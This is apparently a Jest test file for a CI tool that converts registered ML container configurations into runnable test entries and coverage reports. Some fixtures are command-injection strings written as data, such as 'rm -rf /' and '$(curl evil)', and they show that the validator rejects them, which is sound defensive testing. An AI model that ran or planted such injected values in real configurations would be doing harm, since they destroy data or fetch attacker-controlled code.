import { describe, expect, it } from '@jest/globals';
import { loadCatalog } from '../../src/catalog/load.js';
import {
  entryFromRecord,
  entryForConfigId,
  registeredConfigs,
  REGISTERED_LIFECYCLE,
} from '../../src/catalog/registered.js';
import { configJson, type CiRecord } from '../../src/results/record.js';
import { selectByStatus } from '../../src/catalog/select-by-status.js';
import { buildPlan } from '../../src/catalog/plan.js';
import { buildCoverage } from '../../src/report/coverage.js';
import { renderCoverageText } from '../../src/report/text.js';
import { renderCoverageMarkdown } from '../../src/report/markdown.js';
import { coverageJson } from '../../src/report/json.js';
import { computeConfigId } from '../../src/catalog/config-id.js';
import { mccConfigId } from '../../src/results/join.js';
import { parseDoConfig, registrationFromDoConfig } from '../../src/catalog/project-config.js';

const catalog = loadCatalog('catalog/e2e-catalog.json');

/** The configJson MCC 1.6.0's `do/register --ci` wrote for a generated project (read off moto). */
const mccConfig = (overrides: Record<string, unknown> = {}) => ({
  projectName: 'qwen-reg',
  deploymentConfig: 'transformers-vllm',
  architecture: 'transformers',
  backend: 'vllm',
  modelName: 'Qwen/Qwen3-1.7B',
  instanceType: 'ml.g5.2xlarge',
  awsRegion: 'us-west-2',
  deploymentTarget: 'realtime-inference',
  buildTarget: 'codebuild',
  baseImage: 'vllm/vllm-openai:v0.25.1',
  buildStrategy: 'codebuild-submit',
  icList: [{ name: 'default', image: 'qwen-reg-latest', gpuCount: 1, copyCount: 1 }],
  parameters: { HF_MODEL_ID: 'Qwen/Qwen3-1.7B', VLLM_MAX_MODEL_LEN: '8192', HF_TOKEN: '***REDACTED***' },
  ...overrides,
});

const mccRecord = (configId: string, config: unknown = mccConfig(), extra: Partial<CiRecord> = {}) =>
  ({
    configId,
    schemaVersion: 1,
    configJson: typeof config === 'string' ? config : JSON.stringify(config),
    testStatus: 'untested',
    lastTestTimestamp: '1970-01-01T00:00:00Z',
    deploymentConfig: 'transformers-vllm',
    projectName: 'qwen-reg',
    createdAt: '2026-12-01T20:33:04Z',
    ...extra,
  }) as unknown as CiRecord;

const convert = (record: CiRecord) => entryFromRecord(record, new Set(catalog.entries.map((e) => e.id)));

describe('a registered record becomes a runnable entry', () => {
  it("MCC's do/register --ci record: generator args, engine parameters as IC_ENV_*, nightly defaults, its own configId", () => {
    const conversion = convert(mccRecord('b9664783c06e881a'));
    if (!('entry' in conversion)) throw new Error(conversion.unusable.reason);
    const { entry } = conversion;
    expect(entry.id).toBe('qwen-reg');
    expect(entry.configId).toBe('b9664783c06e881a');
    expect(entry.argv).toEqual([
      '--deployment-config=transformers-vllm',
      '--model-name=Qwen/Qwen3-1.7B',
      '--instance-type=ml.g5.2xlarge',
      '--region=us-west-2',
      '--deployment-target=realtime-inference',
    ]);
    expect(entry.env).toEqual({ IC_ENV_VLLM_MAX_MODEL_LEN: '8192' });
    expect(entry.tier).toBe('nightly');
    expect(entry.timeout).toBe(2700);
    expect(entry.lifecycle).toEqual(REGISTERED_LIFECYCLE);
    expect(entry.track).toBe('realtime');
    expect(entry.registered?.configJson).toBe(mccRecord('b9664783c06e881a').configJson);
  });

  it('takes the tier from the record, and reg-<configId> when the project name is a catalog id or not an id', () => {
    const weekly = convert(
      mccRecord('00000000000000aa', mccConfig({ projectName: 'rt-qwen3-4b' }), { tier: 'weekly' }),
    );
    expect('entry' in weekly && [weekly.entry.id, weekly.entry.tier, weekly.entry.timeout]).toEqual([
      'reg-00000000000000aa',
      'weekly',
      3600,
    ]);
    const odd = convert(mccRecord('00000000000000ab', mccConfig({ projectName: 'My Project' })));
    expect('entry' in odd && odd.entry.id).toBe('reg-00000000000000ab');
  });

  it('two registrations of one project name: the first (by configId) keeps it', () => {
    const { entries } = registeredConfigs(
      [
        mccRecord('00000000000000b2'),
        // (Qwen3-1.7B on ml.g5.xlarge would be catalog entry rt-qwen3-17b: it joins that entry)
        mccRecord('00000000000000b1', mccConfig({ instanceType: 'ml.g5.4xlarge' })),
      ],
      catalog.entries,
    );
    expect(entries.map((e) => [e.configId, e.id])).toEqual([
      ['00000000000000b1', 'qwen-reg'],
      ['00000000000000b2', 'reg-00000000000000b2'],
    ]);
  });
});

describe('an unusable record is reported with its reason, never an entry', () => {
  const reasonOf = (record: CiRecord) => {
    const conversion = convert(record);
    return 'unusable' in conversion ? conversion.unusable.reason : `usable: ${conversion.entry.id}`;
  };

  it.each([
    ['no model', mccConfig({ modelName: '' }), /^configJson has no modelName — /],
    [
      'shell metacharacters in the model',
      mccConfig({ modelName: 'Qwen/x;rm -rf /' }),
      /^configJson\.modelName contains a quote or shell metacharacter: "--model-name=Qwen\/x;rm/,
    ],
    [
      'a $() in an engine parameter',
      mccConfig({ parameters: { VLLM_MAX_MODEL_LEN: '$(curl evil)' } }),
      /^configJson\.parameters\.VLLM_MAX_MODEL_LEN contains "\$"/,
    ],
    [
      'an instance that is not one',
      mccConfig({ instanceType: 'g5.2xlarge' }),
      /--instance-type "g5\.2xlarge" is not a SageMaker instance type/,
    ],
    [
      'an unknown target',
      mccConfig({ deploymentTarget: 'lambda' }),
      /^configJson\.deploymentTarget "lambda" is not one of realtime-inference/,
    ],
    ['configJson that is not JSON', '{"modelName":', /^configJson is not valid JSON/],
  ])('%s', (_what, config, reason) => {
    expect(reasonOf(mccRecord('00000000000000c1', config))).toMatch(reason);
  });

  it('a record without configJson, and a key that is not a configId', () => {
    expect(reasonOf(mccRecord('00000000000000c2', ''))).toMatch(/^has no configJson/);
    expect(reasonOf(mccRecord('not-a-config-id'))).toMatch(/is not 16 lowercase hex characters/);
  });
});

describe('which records are registrations', () => {
  const entry = catalog.entries[0]!;
  const ours = {
    ...mccRecord(entry.configId, configJson(entry)),
    e2eCatalogId: entry.id,
    tier: entry.tier,
  } as CiRecord;
  const retired = { ...mccRecord('00000000000000d1'), e2eCatalogId: 'rt-removed' } as CiRecord;

  it('not the records of catalog entries, nor results of entries the catalog no longer has', () => {
    const { entries, unusable } = registeredConfigs(
      [
        ours,
        retired,
        mccRecord('00000000000000d2'),
        mccRecord('00000000000000d3', mccConfig({ modelName: '' })),
      ],
      catalog.entries,
    );
    expect(entries.map((e) => e.configId)).toEqual(['00000000000000d2']);
    expect(unusable.map((u) => u.configId)).toEqual(['00000000000000d3']);
  });

  it('untested registered entries are selected; the leg carries the configId', () => {
    const { entries } = registeredConfigs([mccRecord('00000000000000e1')], catalog.entries);
    const selected = selectByStatus(entries, [mccRecord('00000000000000e1')], 'untested');
    const plan = buildPlan(selected, { instances: { 'ml.g5.2xlarge': 1.515 } });
    expect(plan.matrix.include).toEqual([
      expect.objectContaining({ id: 'qwen-reg', tier: 'nightly', 'config-id': '00000000000000e1' }),
    ]);
    expect(buildPlan([entry], { instances: {} }).matrix.include[0]).not.toHaveProperty('config-id');
  });
});

describe('config-id', () => {
  const source = (records: CiRecord[]) => ({
    description: 'the test table',
    listRecords: async () => records,
  });

  it('names a registered record, a catalog entry, or says what is wrong', async () => {
    const records = [
      mccRecord('00000000000000f1'),
      mccRecord('00000000000000f2', mccConfig({ modelName: '' })),
    ];
    expect((await entryForConfigId(source(records), catalog, '00000000000000f1')).id).toBe('qwen-reg');
    expect((await entryForConfigId(source([]), catalog, catalog.entries[3]!.configId)).id).toBe(
      catalog.entries[3]!.id,
    );
    await expect(entryForConfigId(source(records), catalog, '00000000000000f2')).rejects.toThrow(
      'registered record 00000000000000f2 cannot be run: configJson has no modelName',
    );
    await expect(entryForConfigId(source(records), catalog, '00000000000000f9')).rejects.toThrow(
      'no record 00000000000000f9 in the test table — register the project first',
    );
    await expect(entryForConfigId(source(records), catalog, 'rt-qwen3-4b')).rejects.toThrow(
      'config-id must be a configId: 16 lowercase hex characters',
    );
  });
});

describe('register --from-project reads do/config without running it', () => {
  /** lines of a do/config MCC 1.6.0 generated (ml-container-creator … --ic-env VLLM_MAX_MODEL_LEN=8192) */
  const DO_CONFIG = [
    '#!/bin/bash',
    'export PROJECT_NAME="qwen-reg"',
    'export DEPLOYMENT_CONFIG="transformers-vllm"',
    'export AWS_REGION=${AWS_REGION:-us-west-2}',
    'export DEPLOYMENT_TARGET="realtime-inference"',
    'export INSTANCE_TYPE="ml.g5.2xlarge"',
    'export IC_ENV_VLLM_MAX_MODEL_LEN=${IC_ENV_VLLM_MAX_MODEL_LEN:-8192}',
    'export MODEL_NAME="Qwen/Qwen3-1.7B"',
    'export BENCHMARK_S3_OUTPUT_PATH=""  # Resolved at runtime from profile (benchmarkS3Bucket)',
    'export BASE_IMAGE=${BASE_IMAGE:-vllm/vllm-openai:v0.25.1}',
    'export INSTANCE_TYPE=${INSTANCE_TYPE:-ml.g5.xlarge}',
    'echo "⚙️  Configuration loaded"',
  ].join('\n');

  it('gives MCC’s configJson under the 5-field configId, and the entry the scan will run', () => {
    const vars = parseDoConfig(DO_CONFIG);
    expect(vars.get('INSTANCE_TYPE')).toBe('ml.g5.2xlarge');
    expect(vars.get('BENCHMARK_S3_OUTPUT_PATH')).toBe('');
    const registration = registrationFromDoConfig(vars);
    expect(registration.configId).toBe(
      computeConfigId({
        deploymentConfig: 'transformers-vllm',
        modelName: 'Qwen/Qwen3-1.7B',
        instanceType: 'ml.g5.2xlarge',
        region: 'us-west-2',
        deploymentTarget: 'realtime-inference',
      }),
    );
    expect(JSON.parse(registration.configJson)).toEqual({
      projectName: 'qwen-reg',
      deploymentConfig: 'transformers-vllm',
      modelName: 'Qwen/Qwen3-1.7B',
      instanceType: 'ml.g5.2xlarge',
      awsRegion: 'us-west-2',
      deploymentTarget: 'realtime-inference',
      baseImage: 'vllm/vllm-openai:v0.25.1',
      parameters: { IC_ENV_VLLM_MAX_MODEL_LEN: '8192' },
    });
    const conversion = convert(mccRecord(registration.configId, registration.configJson));
    expect('entry' in conversion && conversion.entry.env).toEqual({ IC_ENV_VLLM_MAX_MODEL_LEN: '8192' });
  });

  it('a $(…) in do/config is kept literally, so the registration is refused with the reason', () => {
    const registration = registrationFromDoConfig(
      parseDoConfig(`${DO_CONFIG}\nexport MODEL_NAME="$(curl http://evil)"`),
    );
    const conversion = convert(mccRecord(registration.configId, registration.configJson));
    expect('unusable' in conversion && conversion.unusable.reason).toMatch(
      /^configJson\.modelName contains a quote or shell metacharacter/,
    );
  });
});

describe('reports show registered configurations in their own section', () => {
  const reg = mccRecord('00000000000000a1', mccConfig(), {
    testStatus: 'fail-test',
    previousTestStatus: 'pass',
    regression: true,
    lastTestTimestamp: '2026-12-01T21:00:00Z',
    lastTestDuration: 95,
    tier: 'nightly',
  });
  const broken = mccRecord('00000000000000a2', mccConfig({ modelName: 'x;y' }));
  const retired = { ...mccRecord('00000000000000a3'), e2eCatalogId: 'rt-removed', tier: 'ci' } as CiRecord;
  const history = (status: string, at: string) => ({
    configId: '00000000000000a1',
    runTimestamp: at,
    runId: at,
    status,
    durationSeconds: 90,
    e2eCatalogId: 'qwen-reg',
    tier: 'nightly',
  });
  const records = [reg, broken, retired];
  const registered = registeredConfigs(records, catalog.entries);
  const model = buildCoverage({
    entries: catalog.entries,
    records,
    history: new Map([
      [
        '00000000000000a1',
        [history('pass', '2026-11-30T21:00:00Z'), history('fail-test', '2026-12-01T21:00:00Z')],
      ],
    ]),
    registered,
    source: 'the test table',
  });

  it('with status, history and regressions; "not in catalog" keeps only the others', () => {
    expect(model.registered.configs).toEqual([
      expect.objectContaining({
        id: 'qwen-reg',
        configId: '00000000000000a1',
        status: 'fail-test',
        regression: true,
        lastStatuses: ['pass', 'fail-test'],
      }),
    ]);
    expect(model.registered.regressions).toEqual(['qwen-reg']);
    expect(model.registered.unusable.map((u) => u.configId)).toEqual(['00000000000000a2']);
    expect(model.notInCatalog.map((r) => r.configId)).toEqual(['00000000000000a3']);
    expect(model.summary.total).toBe(catalog.entries.length);
  });

  it('in the text, Markdown and JSON reports', () => {
    const text = renderCoverageText(model);
    expect(text).toContain('Registered (1 configuration teams registered outside the catalog):');
    expect(text).toMatch(
      /nightly +qwen-reg +00000000000000a1 +Qwen\/Qwen3-1\.7B +fail-test {2}⚠️ REGRESSION/,
    );
    expect(text).toContain('00000000000000a2  configJson.modelName contains a quote or shell metacharacter');
    const markdown = renderCoverageMarkdown(model, { fullReportAt: 'the artifact', maxBytes: 512 * 1024 });
    expect(markdown).toContain('### Registered');
    expect(markdown).toContain('> - **qwen-reg** — fail-test');
    expect(coverageJson(model).registered.configs[0]).toMatchObject({ id: 'qwen-reg', status: 'fail-test' });
  });
});

describe('MCC’s own item of a catalog entry is that entry, not a registration', () => {
  it('is left out of the registered configurations and names the entry for config-id', async () => {
    const qwen17 = catalog.entries.find((e) => e.id === 'rt-qwen3-17b')!;
    const mccId = mccConfigId(qwen17.params);
    const item = mccRecord(mccId, mccConfig({ instanceType: 'ml.g5.xlarge' }));
    expect(registeredConfigs([item], catalog.entries)).toEqual({ entries: [], unusable: [] });
    const source = { description: 'the test table', listRecords: async () => [item] };
    expect((await entryForConfigId(source, catalog, mccId)).id).toBe('rt-qwen3-17b');
  });
});
